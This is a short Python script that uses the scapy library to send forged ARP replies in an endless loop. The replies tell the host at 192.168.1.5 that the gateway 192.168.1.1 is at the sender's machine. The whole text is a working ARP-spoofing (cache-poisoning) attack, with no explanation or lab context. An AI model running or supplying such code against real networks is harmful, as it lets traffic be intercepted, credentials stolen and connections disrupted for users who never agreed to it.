from scapy.all import ARP, send
pkt = ARP(op=2, pdst="192.168.1.5", psrc="192.168.1.1")
while True:
    send(pkt, verbose=False)
